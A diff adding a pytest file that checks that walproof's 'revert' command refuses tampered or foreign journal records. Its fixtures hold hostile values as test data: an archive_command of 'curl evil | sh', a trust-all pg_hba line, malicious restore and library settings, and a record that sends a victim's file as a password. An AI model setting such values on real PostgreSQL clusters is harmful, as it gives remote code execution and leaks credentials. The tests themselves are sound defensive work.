@@ -1,0 +1,315 @@
+"""Records of strangers: `walproof revert` obeys the journals in this user's state folder alone."""
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.fixtures.command_line import ended
+from tests.fixtures.own_patroni import OwnPatroni, own_patroni
+from walproof.cli.journals import keep_journal, runs_folder
+from walproof.machine import pid_files
+from walproof.model.ports import Target
+from walproof.records.journal import Journal
+from walproof.records.registered import NAME, RegisteredJournal, Run, registered
+from walproof.records.writer import Writer
+from walproof.targets.choose import choose
+from walproof.targets.patroni.configuration import CONFIG, PatroniConfiguration
+
+EVIL = {"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}
+SET = {"postgresql": {"parameters": {"archive_command": "cp %p /archive"}}}
+Walproof = Callable[..., tuple[int, str, str]]
+
+
+@pytest.fixture(autouse=True)
+def _no_members(monkeypatch: pytest.MonkeyPatch, own_state: Path) -> None:
+    """These Patronis have no PostgreSQL that could show a setting; the state folder is the test's own."""
+    monkeypatch.setattr(PatroniConfiguration, "_await", lambda *_: None)
+
+
+@pytest.fixture
+def walproof(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Walproof:
+    """walproof in a folder of its own, where records lie in ./records."""
+    monkeypatch.chdir(tmp_path)
+    return lambda *words: ended(capsys, words)
+
+
+@pytest.fixture
+def stranger() -> Iterator[OwnPatroni]:
+    with own_patroni(ttl=30, **SET) as server:
+        yield server
+
+
+@pytest.fixture
+def mine() -> Iterator[OwnPatroni]:
+    with own_patroni(ttl=20) as server:
+        yield server
+
+
+def noted(journal: Any, target: str, before: dict[str, Any], after: dict[str, Any]) -> None:
+    """As PatroniConfiguration notes a change."""
+    note = json.dumps({"config": before, "shown": {}})
+    journal.note(1.0, target, CONFIG, "config", before=note, after=json.dumps(after))
+
+
+def foreign_record(folder: Path, server: OwnPatroni, before: dict[str, Any], after: dict[str, Any]) -> Path:
+    """A record that came from elsewhere, with a target file of its own that sends a file of the victim as password."""
+    secret = folder.parents[1] / "id_of_the_victim"
+    secret.write_text("the victim's secret")
+    with Writer(folder, "price"):
+        pass
+    noted(Journal(folder / NAME), str(server.file(folder / "target.toml", secret)), before, after)
+    return folder
+
+
+def killed_run(folder: Path, server: OwnPatroni, file: Path) -> RegisteredJournal:
+    """A run of ours that was killed after it had set ttl from 30 to 20; it is registered by a process that is gone."""
+    with Writer(folder, "price"):
+        pass
+    target: Target = choose(str(server.file(file)))
+    keep_journal(target, folder)
+    assert isinstance(target.journal, RegisteredJournal)
+    noted(target.journal, target.name, {"ttl": 30}, {"ttl": 20})
+    server.requests.clear()
+    return target.journal
+
+
+def test_a_strangers_record_in_this_folder_is_not_obeyed(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni
+) -> None:
+    """The exploit of issue 28: a file of the victim as Basic auth, a PATCH of archive_command."""
+    foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
+    code, out, _ = walproof("revert")
+    assert stranger.requests == []
+    assert (code, out) == (0, "nothing to revert\n")
+
+
+def test_a_strangers_record_that_is_named_is_read_out_and_needs_target_and_consent(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni
+) -> None:
+    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
+    code, out, err = walproof("revert", str(record))
+    assert code == 2
+    assert '"ttl": 30' in json.loads(f"[{out.splitlines()[1].partition(' → ')[2]}]")[0]
+    assert "--target WHERE --allow config" in err
+    code, out, err = walproof("revert", str(record), "--target", stranger.url, "--json")
+    assert code == 2
+    assert json.loads(out)["would_revert"][0]["name"] == "config"
+    assert "--allow config" in err
+    assert walproof("revert", str(record), "--target", stranger.url, "--allow", "load")[0] == 2
+    assert stranger.requests == []
+
+
+def test_with_target_and_consent_a_record_from_elsewhere_is_reverted_there_and_nowhere_else(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+) -> None:
+    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
+    assert walproof("revert", str(record), "--target", mine.url, "--allow", "config")[0] == 0
+    assert mine.patched == [{"ttl": 30}]
+    assert stranger.requests == []
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        (CONFIG, "config", {"config": EVIL, "shown": {}}, SET),
+        (CONFIG, "order", {"config": {"standby_cluster": {"host": "evil"}}}, {"standby_cluster": None}),
+        (CONFIG, "config", {"config": {"postgresql": {"pg_hba": ["host all all all trust"]}}}, {"postgresql": {}}),
+        ("cnpg spec", "spec", {"spec": [[["postgresql", "parameters", "archive_command"], "evil"]]}, []),
+        ("cnpg spec", "spec", {"spec": [["x", 1], [["imageName"], "evil"]]}, []),
+        ("alter-system n1", "restore_command", "evil", None),
+        ("alter-system n1", "shared_preload_libraries", "evil", None),
+        ("alter-system n1", "primary_conninfo", "host=evil", None),
+    ],
+)
+def test_a_setting_that_walproof_never_changes_is_not_reverted_with_consent_either(
+    tmp_path: Path, walproof: Walproof, mine: OwnPatroni, change: tuple[str, str, Any, Any]
+) -> None:
+    what, name, before, after = change
+    with Writer(tmp_path / "r", "price"):
+        pass
+    texts = [one if one is None or isinstance(one, str) else json.dumps(one) for one in (before, after)]
+    Journal(tmp_path / "r" / NAME).note(1.0, mine.url, what, name, before=texts[0], after=texts[1])
+    code, _, err = walproof("revert", "r", "--target", mine.url, "--allow", "config")
+    assert (code, mine.requests) == (2, [])
+    assert "walproof never changes" in err
+
+
+def swapped(record: Path, evil: Path) -> None:
+    shutil.copy(evil / NAME, record / NAME)
+
+
+def written_over(record: Path, evil: Path) -> None:
+    (record / NAME).write_bytes((record / NAME).read_bytes() + (evil / NAME).read_bytes())
+
+
+def linked(record: Path, evil: Path) -> None:
+    shutil.rmtree(record)
+    record.symlink_to(evil)
+
+
+def emptied(record: Path, _: Path) -> None:
+    (record / NAME).write_text("")
+
+
+def removed(record: Path, _: Path) -> None:
+    shutil.rmtree(record)
+
+
+@pytest.mark.parametrize("tamper", [swapped, written_over, linked, emptied, removed])
+def test_whatever_becomes_of_the_record_its_run_is_reverted_as_it_was_noted(
+    tmp_path: Path,
+    walproof: Walproof,
+    stranger: OwnPatroni,
+    mine: OwnPatroni,
+    tamper: Callable[[Path, Path], None],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """And from another folder than that of the records."""
+    killed_run(tmp_path / "records" / "r", mine, tmp_path / "mine.toml")
+    tamper(tmp_path / "records" / "r", foreign_record(tmp_path / "other" / "r", stranger, EVIL, SET))
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir(tmp_path / "elsewhere")
+    code, out, _ = walproof("revert", "--json")
+    assert (code, json.loads(out)["reverted"][0]["changes"]) == (0, 1)
+    assert mine.patched == [{"ttl": 30}]
+    assert stranger.requests == []
+    assert list(runs_folder().iterdir()) == [], "fully undone, it is forgotten"
+
+
+def test_a_record_that_carries_our_id_reverts_what_we_noted_and_no_line_of_its_own(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+) -> None:
+    ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
+    evil = foreign_record(tmp_path / "records" / "evil", stranger, EVIL, SET)
+    (evil / NAME).write_text(json.dumps({"journal": ours.run.journal}) + "\n" + (evil / NAME).read_text())
+    assert walproof("revert", str(evil))[0] == 0
+    assert mine.patched == [{"ttl": 30}]
+    assert stranger.requests == []
+
+
+def test_the_copy_in_the_record_reverts_with_consent_where_the_state_folder_is_lost(
+    tmp_path: Path, walproof: Walproof, mine: OwnPatroni
+) -> None:
+    killed_run(tmp_path / "records" / "r", mine, tmp_path / "mine.toml")
+    shutil.rmtree(runs_folder())
+    assert walproof("revert", "records/r")[0] == 2
+    words = ("revert", "records/r", "--target", str(tmp_path / "mine.toml"), "--allow", "config")
+    assert walproof(*words)[0] == 0
+    assert mine.patched == [{"ttl": 30}]
+    assert walproof(*words)[1] == "nothing to revert\n"
+
+
+@pytest.mark.parametrize("opened", ["folder", "file", "link"])
+def test_a_registration_that_others_could_have_written_is_not_obeyed(
+    tmp_path: Path, walproof: Walproof, mine: OwnPatroni, opened: str
+) -> None:
+    ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
+    if opened == "link":
+        ours.registration.rename(tmp_path / "x.jsonl")
+        ours.registration.symlink_to(tmp_path / "x.jsonl")
+    else:
+        (runs_folder() if opened == "folder" else ours.registration).chmod(0o777)
+    assert walproof("revert")[1] == "nothing to revert\n"
+    assert mine.requests == []
+
+
+def test_registrations_are_their_owners_alone_whatever_the_umask(tmp_path: Path, mine: OwnPatroni) -> None:
+    before = os.umask(0)
+    try:
+        ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
+    finally:
+        os.umask(before)
+    assert (runs_folder().stat().st_mode & 0o777, ours.registration.stat().st_mode & 0o777) == (0o700, 0o600)
+
+
+def test_a_run_that_goes_on_is_left_alone(tmp_path: Path, walproof: Walproof, mine: OwnPatroni) -> None:
+    file = mine.file(tmp_path / "mine.toml")
+    with Writer(tmp_path / "r", "price"):
+        pass
+    with subprocess.Popen(["sleep", "60"]) as running:
+        try:
+            run = Run("0" * 32, str(tmp_path / "r"), pid_files.identity(running.pid) or "")
+            noted(RegisteredJournal(runs_folder(), run), str(file), {"ttl": 30}, {"ttl": 20})
+            code, out, err = walproof("revert")
+            assert (code, out) == (0, "nothing to revert\n")
+            assert f"process {running.pid}" in err
+            assert walproof("revert", str(tmp_path / "r"))[0] == 3
+            assert mine.requests == []
+        finally:
+            running.kill()
+    assert walproof("revert")[0] == 0
+    assert mine.patched == [{"ttl": 30}]
+
+
+def test_a_target_that_is_named_is_sent_its_own_changes_and_no_others(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+) -> None:
+    """Another cluster's changes were made to it once, by whoever typed its --target."""
+    killed_run(tmp_path / "a", stranger, tmp_path / "other.toml")
+    killed_run(tmp_path / "b", mine, tmp_path / "mine.toml")
+    stranger.config["ttl"] = 20
+    code, _, err = walproof("revert", "--target", str(tmp_path / "mine.toml"))
+    assert code == 0
+    assert "other.toml" in err
+    assert (mine.patched, stranger.requests) == ([{"ttl": 30}], [])
+    assert [one.run.record for one in registered(runs_folder())] == [str(tmp_path / "a")]
+
+
+def test_a_cluster_that_is_gone_keeps_nothing_else_from_being_reverted(
+    tmp_path: Path, walproof: Walproof, mine: OwnPatroni
+) -> None:
+    with own_patroni(ttl=20) as gone:
+        lost = killed_run(tmp_path / "a", gone, tmp_path / "gone.toml")
+    killed_run(tmp_path / "b", mine, tmp_path / "mine.toml")
+    code, out, err = walproof("revert", "--json")
+    assert (code, len(json.loads(out)["reverted"])) == (3, 1)
+    assert f"rm {lost.registration}" in err
+    assert mine.patched == [{"ttl": 30}]
+
+
+@pytest.mark.parametrize(
+    "line", ['{"change": {"number": "1"}}', '{"change": 1}', '{"undone": [1]}', "[" * 100_000, '{"journal": {"a": 1}}']
+)
+def test_odd_lines_of_a_journal_are_no_errors_inside_walproof(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, line: str
+) -> None:
+    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
+    with (record / NAME).open("a") as file:
+        file.write(line + "\n")
+    code, out, err = walproof("revert", str(record))
+    assert code == 2
+    assert "would revert 1 change" in out
+    assert "inside walproof" not in err
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("report",),
+        ("report", "--markdown"),
+        ("report", "--json"),
+        ("report", "--rejudge"),
+        ("advise",),
+        ("forecast",),
+        ("watch", "--terminal", "--duration", "1"),
+        ("apply", "--rpo", "0", "--dry-run", "--target", "sim"),
+        ("price", "--resume"),
+    ],
+)
+def test_reading_a_strangers_record_asks_no_cluster_that_it_names(
+    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, words: tuple[str, ...]
+) -> None:
+    record = foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
+    started = {"kind": "started", "at": 0.0, "verb": "price", "command": "", "seed": 1, "version": "1"}
+    started["question"] = {"target": str(record / "target.toml"), "allow": "load,config"}
+    description = {"target": stranger.url, "members": ["n1"], "facts": {"manager": "patroni"}, "settings": {}}
+    events = (started, {"kind": "described", "at": 0.0, "description": description})
+    (record / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
+    walproof(*words, str(record))
+    assert stranger.requests == []
